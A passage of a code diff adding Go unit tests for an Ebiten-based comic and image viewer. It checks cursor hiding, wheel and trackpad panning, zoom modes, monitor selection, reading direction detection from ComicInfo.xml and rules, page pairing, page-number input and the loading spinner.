+		t.Fatal("cursor should hide after resting for cursor_hide_seconds")
+	}
+	if g.trackCursorIdle(start.Add(3*time.Second), 11, 10, false) {
+		t.Fatal("moving should show the cursor again")
+	}
+	if g.trackCursorIdle(start.Add(6*time.Second), 11, 10, true) {
+		t.Fatal("holding a button should keep the cursor")
+	}
+	g.controlsVisible = true
+	if g.trackCursorIdle(start.Add(20*time.Second), 11, 10, false) {
+		t.Fatal("on-screen controls should keep the cursor")
+	}
+	g.controlsVisible = false
+
+	// 0 hides only in fullscreen and slideshows
+	g.config.CursorHideSeconds = 0
+	if g.trackCursorIdle(start.Add(time.Hour), 11, 10, false) {
+		t.Fatal("cursor_hide_seconds 0 should keep the cursor in a window")
+	}
+	g.slideshowActive = true
+	if !g.trackCursorIdle(start.Add(time.Hour), 11, 10, false) {
+		t.Fatal("a slideshow should hide the resting cursor")
+	}
+	g.slideshowActive = false
+	g.fullscreen = true
+	if !g.trackCursorIdle(start.Add(time.Hour), 11, 10, false) {
+		t.Fatal("fullscreen should hide the resting cursor")
+	}
+}
+
+func TestPureWheelPansZoomedViewUnlessPageModifierIsHeld(t *testing.T) {
+	settings := GetDefaultMouseSettings()
+	mm := NewMousebindingManager(getDefaultMousebindings(), settings)
+	alt := modifierState{Alt: true}
+	ctrl := modifierState{Ctrl: true}
+
+	if _, pans := mm.wheelModifiers(modifierState{}); pans {
+		t.Fatal("the wheel should turn pages in the fit modes")
+	}
+
+	mm.SetZoomMode(ZoomModeManual)
+	if _, pans := mm.wheelModifiers(modifierState{}); !pans {
+		t.Fatal("the plain wheel should pan a zoomed view")
+	}
+	if mods, pans := mm.wheelModifiers(alt); pans || mods != (modifierState{}) {
+		t.Fatalf("Alt+wheel = %+v, pans %v; want the plain wheel bindings", mods, pans)
+	}
+	if mods, pans := mm.wheelModifiers(ctrl); pans || mods != ctrl {
+		t.Fatalf("Ctrl+wheel = %+v, pans %v; want the zoom bindings", mods, pans)
+	}
+
+	settings.WheelZoomed = wheelZoomedNavigate
+	mm.UpdateSettings(settings)
+	if mods, pans := mm.wheelModifiers(alt); pans || mods != alt {
+		t.Fatalf("navigate mode should leave the wheel alone, got %+v pans %v", mods, pans)
+	}
+
+	if got := validateMouseSettings(MouseSettings{WheelZoomed: "scroll", WheelPageModifier: "Meta"}); got.WheelZoomed != wheelZoomedPan || got.WheelPageModifier != "Alt" {
+		t.Fatalf("invalid wheel settings validated to %q/%q", got.WheelZoomed, got.WheelPageModifier)
+	}
+}
+
+func TestPureHorizontalWheelPansSmoothlyWhenNotFitToWindow(t *testing.T) {
+	settings := GetDefaultMouseSettings()
+	settings.WheelSensitivity = 2
+	mm := NewMousebindingManager(getDefaultMousebindings(), settings)
+
+	if _, _, ok := mm.wheelPan(modifierState{}, 0.25, 0); ok {
+		t.Fatal("nothing to pan while fit to the window")
+	}
+
+	mm.SetZoomMode(ZoomModeFitHeight)
+	dx, dy, ok := mm.wheelPan(modifierState{}, 0.25, 0)
+	if !ok || dx != -0.25*wheelPanStep*2 || dy != 0 {
+		t.Fatalf("trackpad swipe = %v, %v, %v; want a fractional pan to the right", dx, dy, ok)
+	}
+	if _, dy, ok := mm.wheelPan(modifierState{}, 0, 1); ok || dy != 0 {
+		t.Fatal("the vertical wheel should keep turning pages outside manual zoom")
+	}
+	if _, _, ok := mm.wheelPan(modifierState{Shift: true}, 1, 0); ok {
+		t.Fatal("a modified horizontal wheel should be left to the bindings")
+	}
+
+	mm.SetZoomMode(ZoomModeManual)
+	if dx, dy, ok := mm.wheelPan(modifierState{}, -0.5, 0.5); !ok || dx != 0.5*wheelPanStep*2 || dy != 0.5*wheelPanStep*2 {
+		t.Fatalf("diagonal trackpad pan = %v, %v, %v", dx, dy, ok)
+	}
+
+	settings.WheelInverted = true
+	mm.UpdateSettings(settings)
+	if dx, _, _ := mm.wheelPan(modifierState{}, 1, 0); dx <= 0 {
+		t.Fatalf("inverted horizontal pan = %v, want the other way", dx)
+	}
+
+	bindings := getDefaultMousebindings()
+	bindings["next"] = append(bindings["next"], "WheelRight")
+	mm.UpdateMousebindings(bindings)
+	if dx, _, _ := mm.wheelPan(modifierState{}, 1, 0); dx != 0 {
+		t.Fatal("a WheelRight binding should take the horizontal wheel")
+	}
+}
+
+func TestPureHeldPanKeysMoveByPanSpeedPerTick(t *testing.T) {
+	g := &Game{zoomState: NewZoomState(), config: Config{PanSpeed: 1.5}, currentLogicalW: 1200, currentLogicalH: 600}
+	g.zoomState.Mode = ZoomModeManual
+	tps := float64(ebiten.TPS())
+
+	g.panContinuous(1, 0)
+	if want := -1.5 * 1200 / tps; math.Abs(g.zoomState.PanOffsetX-want) > 1e-9 || g.zoomState.PanOffsetY != 0 {
+		t.Fatalf("one tick right = (%v, %v), want (%v, 0)", g.zoomState.PanOffsetX, g.zoomState.PanOffsetY, want)
+	}
+
+	// A second of holding covers pan_speed screens, whatever the frame rate
+	g.zoomState.PanOffsetX = 0
+	for range int(tps) {
+		g.panContinuous(0, -1)
+	}
+	if want := 1.5 * 600; math.Abs(g.zoomState.PanOffsetY-want) > 1e-6 {
+		t.Fatalf("a second up = %v, want %v", g.zoomState.PanOffsetY, want)
+	}
+
+	// Diagonals move at the same speed
+	g.zoomState.PanOffsetX, g.zoomState.PanOffsetY = 0, 0
+	g.currentLogicalH = 1200
+	g.panContinuous(1, 1)
+	if dist, want := math.Hypot(g.zoomState.PanOffsetX, g.zoomState.PanOffsetY), 1.5*1200/tps; math.Abs(dist-want) > 1e-9 {
+		t.Fatalf("diagonal tick = %v, want %v", dist, want)
+	}
+
+	g.zoomState.Mode = ZoomModeFitWindow
+	g.zoomState.PanOffsetX, g.zoomState.PanOffsetY = 0, 0
+	g.panContinuous(1, 0)
+	if g.zoomState.PanOffsetX != 0 {
+		t.Fatal("fit to window has nothing to pan")
+	}
+}
+
+func TestPureSmartScrollTurnsTallPagesAtTheirEdges(t *testing.T) {
+	paths := []ImagePath{{Path: "01.png"}, {Path: "02.png"}, {Path: "03.png"}}
+	images := []DisplayImage{testDisplayImage(100, 400), testDisplayImage(100, 400), testDisplayImage(100, 400)}
+	g := &Game{
+		imageManager:    &stubImageManager{paths: paths, images: images},
+		zoomState:       NewZoomState(),
+		config:          Config{PageScrollFraction: defaultPageScrollFraction},
+		currentLogicalW: 100,
+		currentLogicalH: 200,
+	}
+	g.calculateDisplayContent()
+	g.zoomState.Mode = ZoomModeFitWidth
+	g.updateZoomLevelForFitMode()
+	g.zoomState.PanOffsetY = 1e12
+	g.clampPanToLimits()
+	rangeY := g.panRangeY()
+	if rangeY <= 0 || g.zoomState.PanOffsetY != rangeY {
+		t.Fatalf("top of page: range = %v, pan = %v", rangeY, g.zoomState.PanOffsetY)
+	}
+
+	// Scroll down to the bottom, then turn to the top of the next page
+	g.smartScroll(1)
+	if g.idx != 0 || g.zoomState.PanOffsetY >= rangeY {
+		t.Fatalf("first scroll: idx = %d, pan = %v", g.idx, g.zoomState.PanOffsetY)
+	}
+	for g.idx == 0 {
+		g.smartScroll(1)
+	}
+	if !g.atPanEdge(-1) || g.zoomState.Mode != ZoomModeFitWidth || g.needsInitialZoomUpdate {
+		t.Fatalf("after turning: idx = %d, mode = %v, pan = %v, want top of page in fit width", g.idx, g.zoomState.Mode, g.zoomState.PanOffsetY)
+	}
+
+	// Going back lands at the bottom of the previous page
+	g.smartScroll(-1)
+	if g.idx != 0 || !g.atPanEdge(1) {
+		t.Fatalf("smart previous: idx = %d, pan = %v, want bottom of page 1", g.idx, g.zoomState.PanOffsetY)
+	}
+
+	// Arrow keys only turn pages at the edge when configured
+	g.panDown()
+	if g.idx != 0 {
+		t.Fatal("pan_down at the bottom turned the page with pan_turns_page off")
+	}
+	g.config.PanTurnsPage = true
+	g.panDown()
+	if g.idx != 1 || !g.atPanEdge(-1) {
+		t.Fatalf("pan_down at the bottom: idx = %d, pan = %v, want top of page 2", g.idx, g.zoomState.PanOffsetY)
+	}
+	g.panDown()
+	if g.idx != 1 {
+		t.Fatal("pan_down in the middle of a page turned it")
+	}
+}
+
+func TestPurePanPageMovesByPageScrollFraction(t *testing.T) {
+	g := &Game{
+		imageManager:    &stubImageManager{paths: []ImagePath{{Path: "tall.png"}}, images: []DisplayImage{testDisplayImage(100, 1000)}},
+		zoomState:       NewZoomState(),
+		config:          Config{PageScrollFraction: 0.5},
+		currentLogicalW: 100,
+		currentLogicalH: 200,
+	}
+	g.calculateDisplayContent()
+	g.zoomState.Mode = ZoomModeManual
+	g.zoomState.Level = 1
+
+	g.panPage(1)
+	if g.zoomState.PanOffsetY != -100 {
+		t.Fatalf("pan page down = %v, want -100 (half the window)", g.zoomState.PanOffsetY)
+	}
+	g.panPage(-1)
+	g.panPage(-1)
+	if g.zoomState.PanOffsetY != 100 {
+		t.Fatalf("pan page up twice = %v, want 100", g.zoomState.PanOffsetY)
+	}
+	for range 10 {
+		g.panPage(1)
+	}
+	if want := -g.panRangeY(); g.zoomState.PanOffsetY != want {
+		t.Fatalf("pan page past the bottom = %v, want clamped to %v", g.zoomState.PanOffsetY, want)
+	}
+
+	g.zoomState.Mode = ZoomModeFitWindow
+	g.zoomState.PanOffsetY = 0
+	g.panPage(1)
+	if g.zoomState.PanOffsetY != 0 {
+		t.Fatal("fit to window has nothing to pan")
+	}
+}
+
+func TestPureWindowPositionStaysReachableOnItsMonitor(t *testing.T) {
+	tests := []struct {
+		name         string
+		x, y         int
+		wantX, wantY int
+	}{
+		{"inside", 100, 50, 100, 50},
+		{"past the right edge", 1900, 50, 1920 - windowMinVisible, 50},
+		{"mostly off the left edge", -790, 50, windowMinVisible - 800, 50},
+		{"title bar above the monitor", 100, -30, 100, 0},
+		{"below a smaller monitor", 100, 1400, 100, 1080 - windowMinVisible},
+	}
+	for _, tt := range tests {
+		x, y := clampWindowPosition(tt.x, tt.y, 800, 600, 1920, 1080)
+		if x != tt.wantX || y != tt.wantY {
+			t.Errorf("%s: (%d, %d) -> (%d, %d), want (%d, %d)", tt.name, tt.x, tt.y, x, y, tt.wantX, tt.wantY)
+		}
+	}
+}
+
+func TestPureFullscreenMonitorCyclesThroughConnectedMonitors(t *testing.T) {
+	var got []int
+	setting := 0
+	for range 4 {
+		setting = nextFullscreenMonitor(setting, 2)
+		got = append(got, setting)
+	}
+	if !slices.Equal(got, []int{1, 2, 0, 1}) {
+		t.Fatalf("cycle with 2 monitors = %v, want [1 2 0 1]", got)
+	}
+	if next := nextFullscreenMonitor(3, 2); next != 0 {
+		t.Fatalf("next after a disconnected monitor = %d, want 0", next)
+	}
+
+	for _, tt := range []struct{ setting, count, want int }{
+		{0, 2, -1},
+		{1, 2, 0},
+		{2, 2, 1},
+		{3, 2, -1}, // Disconnected falls back to the window's monitor
+	} {
+		if got := fullscreenMonitorIndex(tt.setting, tt.count); got != tt.want {
+			t.Errorf("fullscreenMonitorIndex(%d, %d) = %d, want %d", tt.setting, tt.count, got, tt.want)
+		}
+	}
+}
+
+func TestPureBackgroundColorFollowsWindowMode(t *testing.T) {
+	theme, warnings := validateThemeSettings(ThemeSettings{Background: "#808080", FullscreenBackground: "black"})
+	if len(warnings) != 1 || theme.FullscreenBackground != defaultBackgroundColor {
+		t.Fatalf("validated theme = %+v, warnings %v; want the invalid fullscreen color replaced", theme, warnings)
+	}
+
+	g := &Game{config: Config{Theme: theme}}
+	if got := g.GetBackgroundColor(); got != (color.NRGBA{128, 128, 128, 255}) {
+		t.Fatalf("windowed background = %v, want gray", got)
+	}
+	g.fullscreen = true
+	if got := g.GetBackgroundColor(); got != (color.NRGBA{0, 0, 0, 255}) {
+		t.Fatalf("fullscreen background = %v, want black", got)
+	}
+}
+
+func TestPureUpscaleInWindowFitsSmallImagesToTheWindow(t *testing.T) {
+	g := &Game{
+		imageManager:    &stubImageManager{paths: []ImagePath{{Path: "small.png"}}, images: []DisplayImage{testDisplayImage(50, 100)}},
+		zoomState:       NewZoomState(),
+		currentLogicalW: 400,
+		currentLogicalH: 200,
+	}
+	g.calculateDisplayContent()
+	scale := ebiten.Monitor().DeviceScaleFactor()
+
+	g.updateZoomLevelForFitMode()
+	if g.zoomState.Level != scale {
+		t.Fatalf("windowed level = %v, want %v (actual size)", g.zoomState.Level, scale)
+	}
+	g.toggleUpscaleInWindow()
+	if !g.config.UpscaleInWindow || g.zoomState.Level != 2*scale {
+		t.Fatalf("upscale in window level = %v, want %v (fit to height)", g.zoomState.Level, 2*scale)
+	}
+	g.toggleUpscaleInWindow()
+	g.fullscreen = true
+	if !g.FitsSmallImages() {
+		t.Fatal("fullscreen always fits small images")
+	}
+}
+
+func TestPureIntegerZoomSnapsAndStepsByWholeMultiples(t *testing.T) {
+	for _, tt := range []struct{ scale, want float64 }{
+		{1, 1}, {2.9, 2}, {3, 3}, {0.9, 0.5}, {0.5, 0.5}, {0.4, 1.0 / 3},
+	} {
+		if got := snapIntegerZoom(tt.scale); math.Abs(got-tt.want) > 1e-9 {
+			t.Errorf("snapIntegerZoom(%v) = %v, want %v", tt.scale, got, tt.want)
+		}
+	}
+
+	for _, tt := range []struct {
+		level float64
+		up    bool
+		want  float64
+	}{
+		{1, true, 2},
+		{2, true, 3},
+		{1, false, 0.5},
+		{0.5, false, 1.0 / 3},
+		{0.5, true, 1},
+		{2.5, true, 3},
+		{2.5, false, 2},
+		{0.4, true, 0.5},
+		{0.4, false, 1.0 / 3},
+	} {
+		if got := stepIntegerZoom(tt.level, tt.up); math.Abs(got-tt.want) > 1e-9 {
+			t.Errorf("stepIntegerZoom(%v, up=%v) = %v, want %v", tt.level, tt.up, got, tt.want)
+		}
+	}
+
+	g := &Game{zoomState: NewZoomState(), config: Config{IntegerZoom: true}}
+	g.zoomState.Mode = ZoomModeManual
+	g.zoomIn()
+	g.zoomIn()
+	if g.zoomState.Level != 3 {
+		t.Fatalf("two integer zoom steps from 100%% = %v, want 3", g.zoomState.Level)
+	}
+}
+
+func TestPureAutoRotateTurnsSpreadsOnPortraitFullscreen(t *testing.T) {
+	g := &Game{
+		imageManager:    &stubImageManager{paths: []ImagePath{{Path: "spread.png"}}, images: []DisplayImage{testDisplayImage(400, 300)}},
+		zoomState:       NewZoomState(),
+		config:          Config{AutoRotate: true},
+		currentLogicalW: 600,
+		currentLogicalH: 1000,
+	}
+	g.calculateDisplayContent()
+
+	if g.GetRotationAngle() != 0 {
+		t.Fatal("auto-rotate turned the page in a window")
+	}
+	g.fullscreen = true
+	if g.GetRotationAngle() != 90 {
+		t.Fatalf("portrait fullscreen rotation = %d, want 90", g.GetRotationAngle())
+	}
+	if w, h := g.getTransformedImageSize(); w != 300 || h != 400 {
+		t.Fatalf("transformed size = %dx%d, want 300x400", w, h)
+	}
+	g.config.RightToLeft = true
+	if g.GetRotationAngle() != 270 {
+		t.Fatalf("right-to-left rotation = %d, want 270", g.GetRotationAngle())
+	}
+
+	// A page the user already turned upright is left alone
+	g.rotationAngle = 90
+	if g.GetRotationAngle() != 90 {
+		t.Fatalf("rotation with the page turned by hand = %d, want 90", g.GetRotationAngle())
+	}
+	g.rotationAngle = 0
+	g.currentLogicalW, g.currentLogicalH = 1000, 600
+	if g.GetRotationAngle() != 0 {
+		t.Fatal("auto-rotate turned the page on a landscape screen")
+	}
+}
+
+func TestPureReadingDirectionIsRememberedPerVolume(t *testing.T) {
+	dir := t.TempDir()
+	paths := []ImagePath{
+		{Path: "manga.zip:01.png", ArchivePath: filepath.Join(dir, "manga.zip"), EntryPath: "01.png"},
+		{Path: "comic.zip:01.png", ArchivePath: filepath.Join(dir, "comic.zip"), EntryPath: "01.png"},
+		{Path: "other.zip:01.png", ArchivePath: filepath.Join(dir, "other.zip"), EntryPath: "01.png"},
+	}
+	images := []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4), testDisplayImage(4, 4)}
+	storePath := filepath.Join(dir, directionsFileName)
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		directions:   loadDirectionStore(storePath),
+	}
+	g.calculateDisplayContent()
+	g.applyVolumeDirection()
+
+	g.toggleReadingDirection() // The manga reads right to left
+	g.jumpToPage(2)
+	if g.applyVolumeDirection() || !g.config.RightToLeft {
+		t.Fatal("a volume without a remembered direction should keep the current one")
+	}
+	g.toggleReadingDirection() // The comic reads left to right
+
+	g.jumpToPage(1)
+	if !g.applyVolumeDirection() || !g.config.RightToLeft {
+		t.Fatal("going back to the manga should restore right to left")
+	}
+	if g.applyVolumeDirection() {
+		t.Fatal("the direction is only applied when the volume changes")
+	}
+
+	// The choices survive a restart
+	store := loadDirectionStore(storePath)
+	if rtl, ok := store.Get(absPathOrSelf(paths[0].ArchivePath)); !ok || !rtl {
+		t.Fatalf("manga direction = %v, %v; want right to left", rtl, ok)
+	}
+	if rtl, ok := store.Get(absPathOrSelf(paths[1].ArchivePath)); !ok || rtl {
+		t.Fatalf("comic direction = %v, %v; want left to right", rtl, ok)
+	}
+	if _, ok := store.Get(absPathOrSelf(paths[2].ArchivePath)); ok {
+		t.Fatal("untouched volume has a remembered direction")
+	}
+}
+
+func TestPureReadingDirectionIsDetectedFromRulesAndComicInfo(t *testing.T) {
+	dir := t.TempDir()
+	manga := filepath.Join(dir, "manga.cbz")
+	writeTestZip(t, manga, map[string][]byte{
+		"001.png":       nil,
+		"ComicInfo.xml": []byte(`<?xml version="1.0"?><ComicInfo><Manga>YesAndRightToLeft</Manga></ComicInfo>`),
+	})
+	comic := filepath.Join(dir, "comic.cbz")
+	writeTestZip(t, comic, map[string][]byte{
+		"001.png":       nil,
+		"comicinfo.xml": []byte(`<ComicInfo><Manga>No</Manga></ComicInfo>`),
+	})
+	plain := filepath.Join(dir, "plain.cbz")
+	writeTestZip(t, plain, map[string][]byte{"001.png": nil})
+
+	if rtl, ok := archiveComicInfoDirection(manga); !ok || !rtl {
+		t.Fatalf("manga ComicInfo = %v, %v; want right to left", rtl, ok)
+	}
+	if rtl, ok := archiveComicInfoDirection(comic); !ok || rtl {
+		t.Fatalf("comic ComicInfo = %v, %v; want left to right", rtl, ok)
+	}
+	if _, ok := archiveComicInfoDirection(plain); ok {
+		t.Fatal("archive without ComicInfo.xml gave a direction")
+	}
+
+	rules, dropped := validDirectionRules([]DirectionRule{
+		{Match: "(Manga)", Direction: "RTL"},
+		{Match: "", Direction: "rtl"},
+		{Match: "/comics/", Direction: "up"},
+	})
+	if len(rules) != 1 || rules[0].Direction != directionRTL || len(dropped) != 2 {
+		t.Fatalf("validDirectionRules = %v, dropped %v", rules, dropped)
+	}
+	if rtl, ok := matchDirectionRule(rules, "/books/Title (manga) v01.cbz"); !ok || !rtl {
+		t.Fatalf("rule match = %v, %v; want right to left", rtl, ok)
+	}
+	if _, ok := matchDirectionRule(rules, "/books/Title v01.cbz"); ok {
+		t.Fatal("unmatched path gave a direction")
+	}
+
+	// A rule wins over ComicInfo.xml.
+	g := &Game{config: Config{AutoDirection: true, DirectionRules: []DirectionRule{{Match: "manga.cbz", Direction: directionLTR}}}}
+	if rtl, source, ok := g.detectVolumeDirection(manga); !ok || rtl || source != "direction rule" {
+		t.Fatalf("detectVolumeDirection = %v, %q, %v; want the rule", rtl, source, ok)
+	}
+}
+
+func TestPureBookModePolicyFollowsArchivesAndDirectories(t *testing.T) {
+	dir := t.TempDir()
+	photos := filepath.Join(dir, "photos")
+	paths := []ImagePath{
+		{Path: filepath.Join(photos, "a.jpg")},
+		{Path: filepath.Join(photos, "b.jpg")},
+		{Path: "manga.zip:01.png", ArchivePath: filepath.Join(dir, "manga.zip"), EntryPath: "01.png"},
+		{Path: "manga.zip:02.png", ArchivePath: filepath.Join(dir, "manga.zip"), EntryPath: "02.png"},
+		{Path: "manga.zip:03.png", ArchivePath: filepath.Join(dir, "manga.zip"), EntryPath: "03.png"},
+	}
+	images := make([]DisplayImage, len(paths))
+	for i := range images {
+		images[i] = testDisplayImage(4, 6)
+	}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		config:       Config{BookModePolicy: bookModePolicyGlobal, AspectRatioThreshold: 1.5},
+	}
+	g.calculateDisplayContent()
+	if g.applyBookModePolicy() {
+		t.Fatal("the global policy should leave book mode alone")
+	}
+
+	g.config.BookModePolicy = bookModePolicyArchives
+	g.bookMode = true
+	if !g.applyBookModePolicy() || g.bookMode {
+		t.Fatal("a directory of photos should switch to single pages")
+	}
+	g.jumpToPage(3)
+	if !g.applyBookModePolicy() || !g.bookMode {
+		t.Fatal("an archive should switch to book mode")
+	}
+	g.toggleBookMode() // The reader prefers single pages here
+	g.jumpToPage(5)
+	if g.applyBookModePolicy() || g.bookMode {
+		t.Fatal("the policy should only apply when the volume changes")
+	}
+}
+
+func TestPureReadPageMetricsFromHeaders(t *testing.T) {
+	encode := func(w, h int) []byte {
+		var buf bytes.Buffer
+		if err := png.Encode(&buf, image.NewGray(image.Rect(0, 0, w, h))); err != nil {
+			t.Fatal(err)
+		}
+		return buf.Bytes()
+	}
+	dir := t.TempDir()
+	loose := filepath.Join(dir, "loose.png")
+	if err := os.WriteFile(loose, encode(30, 40), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	archive := filepath.Join(dir, "book.zip")
+	writeTestZip(t, archive, map[string][]byte{
+		"01.png": encode(10, 20),
+		"02.png": []byte("not an image"),
+	})
+
+	paths := []ImagePath{
+		{Path: archive + ":01.png", ArchivePath: archive, EntryPath: "01.png"},
+		{Path: loose},
+		{Path: archive + ":02.png", ArchivePath: archive, EntryPath: "02.png"},
+		{Path: filepath.Join(dir, "missing.png")},
+	}
+	got := readPageMetrics(context.Background(), paths)
+	want := []navlogic.PageMetrics{{Width: 10, Height: 20}, {Width: 30, Height: 40}, {}, {}}
+	if !slices.Equal(got, want) {
+		t.Fatalf("readPageMetrics = %v, want %v", got, want)
+	}
+}
+
+func TestPureForcePairOverridesTheAspectHeuristic(t *testing.T) {
+	paths := []ImagePath{{Path: "1.png"}, {Path: "2.png"}, {Path: "3.png"}}
+	images := []DisplayImage{testDisplayImage(100, 150), testDisplayImage(100, 1000), testDisplayImage(100, 150)}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		config:       Config{AspectRatioThreshold: 1.5},
+	}
+	g.calculateDisplayContent()
+	if mode := g.displayContent.Metadata.Mode; mode != "S" {
+		t.Fatalf("single page mode label = %q, want S", mode)
+	}
+
+	g.toggleBookMode()
+	if mode := g.displayContent.Metadata.Mode; mode != "B-single (aspect ratio outside supported range)" {
+		t.Fatalf("collapsed spread label = %q", mode)
+	}
+
+	g.forcePair()
+	if got := g.displayContent.Metadata; got.ActualImages != 2 || got.Mode != "B" {
+		t.Fatalf("forced pair metadata = %+v, want a B spread", got)
+	}
+	g.navigateNext(false)
+	if mode := g.displayContent.Metadata.Mode; g.idx != 2 || mode != "B-single (last page)" {
+		t.Fatalf("after the forced pair idx = %d, label %q", g.idx, mode)
+	}
+
+	g.navigatePrevious(false)
+	g.forcePair() // Back to automatic pairing
+	if g.displayContent.Metadata.ActualImages != 1 || len(g.pagePairings) != 0 {
+		t.Fatalf("unforced pair metadata = %+v, forced %v", g.displayContent.Metadata, g.pagePairings)
+	}
+}
+
+func TestPurePairingsSetByHandAreRememberedPerVolume(t *testing.T) {
+	dir := t.TempDir()
+	archive := filepath.Join(dir, "book.cbz")
+	paths := []ImagePath{
+		{Path: archive + ":01.png", ArchivePath: archive, EntryPath: "01.png"},
+		{Path: archive + ":02.png", ArchivePath: archive, EntryPath: "02.png"},
+		{Path: archive + ":03.png", ArchivePath: archive, EntryPath: "03.png"},
+		{Path: archive + ":04.png", ArchivePath: archive, EntryPath: "04.png"},
+	}
+	images := []DisplayImage{testDisplayImage(100, 150), testDisplayImage(100, 150), testDisplayImage(300, 150), testDisplayImage(100, 150)}
+	storePath := filepath.Join(dir, pairingsFileName)
+	newGame := func() *Game {
+		g := &Game{
+			imageManager: &stubImageManager{paths: paths, images: images},
+			zoomState:    NewZoomState(),
+			config:       Config{AspectRatioThreshold: 1.5},
+			pairings:     loadPairingStore(storePath),
+			bookMode:     true,
+		}
+		g.syncPagePairings()
+		g.calculateDisplayContent()
+		return g
+	}
+
+	g := newGame()
+	g.forceSplit() // 1-2 would pair
+	if got := g.displayContent.Metadata; got.ActualImages != 1 || got.Mode != "B-single (split by hand)" {
+		t.Fatalf("split metadata = %+v", got)
+	}
+	g.navigateNext(false)
+	g.forcePair() // 2-3 differ too much
+	if got := g.displayContent.Metadata; got.ActualImages != 2 || got.LeftPage != 2 {
+		t.Fatalf("forced pair metadata = %+v", got)
+	}
+
+	// Both survive a restart
+	g = newGame()
+	if g.displayContent.Metadata.ActualImages != 1 {
+		t.Fatal("the split of pages 1 and 2 was not restored")
+	}
+	g.navigateNext(false)
+	if got := g.displayContent.Metadata; got.ActualImages != 2 || got.LeftPage != 2 {
+		t.Fatalf("restored forced pair metadata = %+v", got)
+	}
+
+	g.forcePair() // Back to automatic
+	if got := loadPairingStore(storePath).Get(absPathOrSelf(archive), "02.png"); got != navlogic.PairAuto {
+		t.Fatalf("automatic pairing left %v in the store", got)
+	}
+}
+
+func TestPurePageInputJumpsToAPercentage(t *testing.T) {
+	paths := make([]ImagePath, 21)
+	images := make([]DisplayImage, len(paths))
+	for i := range paths {
+		paths[i] = ImagePath{Path: fmt.Sprintf("%02d.png", i+1)}
+		images[i] = testDisplayImage(4, 4)
+	}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+	}
+	g.calculateDisplayContent()
+
+	for _, tt := range []struct {
+		input string
+		idx   int
+	}{
+		{"50%", 10},
+		{"0%", 0},
+		{"100%", 20},
+		{"33%", 7},
+		{"101%", 7}, // Invalid, stays put
+		{"5", 4},
+	} {
+		g.pageInputBuffer = tt.input
+		g.processPageInput()
+		if g.idx != tt.idx {
+			t.Fatalf("%q: idx = %d, want %d", tt.input, g.idx, tt.idx)
+		}
+	}
+
+	g.jumpByPercent(percentJumpStep)
+	if g.idx != 6 {
+		t.Fatalf("10%% forward from page 5: idx = %d, want 6", g.idx)
+	}
+	g.jumpByPercent(-100)
+	if g.idx != 0 {
+		t.Fatalf("100%% back: idx = %d, want 0", g.idx)
+	}
+	g.jumpByPercent(-percentJumpStep)
+	if g.idx != 0 || g.overlayMessage != "First page" {
+		t.Fatalf("back from the first page: idx = %d, message %q", g.idx, g.overlayMessage)
+	}
+}
+
+func TestPurePageInputTurnsIntoAFileNameSearch(t *testing.T) {
+	paths := []ImagePath{{Path: "cover.jpg"}, {Path: "p001.jpg"}, {Path: "credits.jpg"}}
+	g := &Game{
+		imageManager:    &stubImageManager{paths: paths, images: []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4), testDisplayImage(4, 4)}},
+		zoomState:       NewZoomState(),
+		pageInputMode:   true,
+		pageInputBuffer: "1",
+	}
+	g.searchFromPageInput("cred")
+	if g.pageInputMode || g.pageInputBuffer != "" {
+		t.Fatal("page input should be closed")
+	}
+	if g.textPrompt != TextPromptSearch || g.textPromptBuffer != "cred" {
+		t.Fatalf("prompt = %v %q, want a search for cred", g.textPrompt, g.textPromptBuffer)
+	}
+	if idx, ok := g.selectedSearchIndex(); !ok || idx != 2 {
+		t.Fatalf("selected result = %d, %v; want credits.jpg", idx, ok)
+	}
+	g.submitTextPrompt()
+	if g.idx != 2 {
+		t.Fatalf("idx = %d after choosing credits.jpg", g.idx)
+	}
+}
+
+func TestPurePageToastFlashesOnPageChanges(t *testing.T) {
+	archive := filepath.Join("books", "vol1.cbz")
+	paths := []ImagePath{
+		{Path: archive + ":01.png", ArchivePath: archive, EntryPath: "01.png"},
+		{Path: archive + ":ch2/02.png", ArchivePath: archive, EntryPath: "ch2/02.png"},
+		{Path: archive + ":ch2/03.png", ArchivePath: archive, EntryPath: "ch2/03.png"},
+	}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4), testDisplayImage(4, 4)}},
+		zoomState:    NewZoomState(),
+		config:       Config{PageToast: true},
+	}
+	g.calculateDisplayContent()
+	if g.flashPageNumber(g.overlayMessageTime) {
+		t.Fatal("the first page should not flash")
+	}
+
+	g.jumpToPage(2)
+	if !g.flashPageNumber(g.overlayMessageTime) || g.overlayMessage != "2 / 3  ch2" {
+		t.Fatalf("toast = %q, want the page and chapter", g.overlayMessage)
+	}
+
+	since := g.overlayMessageTime
+	g.jumpToPage(1)
+	g.showOverlayMessage("First chapter")
+	g.overlayMessageTime = since.Add(time.Second)
+	if g.flashPageNumber(since) || g.overlayMessage != "First chapter" {
+		t.Fatalf("a message shown by the action was replaced by %q", g.overlayMessage)
+	}
+
+	g.showInfo = true
+	g.jumpToPage(3)
+	if g.flashPageNumber(g.overlayMessageTime) {
+		t.Fatal("no toast while the info display is on")
+	}
+	g.showInfo = false
+	g.jumpToPage(1)
+	if !g.flashPageNumber(g.overlayMessageTime) || g.overlayMessage != "1 / 3  vol1.cbz" {
+		t.Fatalf("toast = %q, want the archive name at its root", g.overlayMessage)
+	}
+}
+
+func TestPureLoadingIndicatorWaitsForSlowPages(t *testing.T) {
+	placeholder := testDisplayImage(2, 2)
+	g := &Game{
+		imageManager:   &DefaultImageManager{loadingPlaceholder: placeholder},
+		displayContent: &DisplayContent{LeftImage: testDisplayImage(4, 4), RightImage: placeholder},
+	}
+	start := time.Now()
+	if g.updateLoadingIndicator(start) || g.loadingVisible {
+		t.Fatal("spinner shown before the delay")
+	}
+	if g.updateLoadingIndicator(start.Add(loadingIndicatorDelay / 2)) {
+		t.Fatal("spinner shown for a fast page")
+	}
+	if !g.updateLoadingIndicator(start.Add(loadingIndicatorDelay)) {
+		t.Fatal("spinner not shown after the delay")
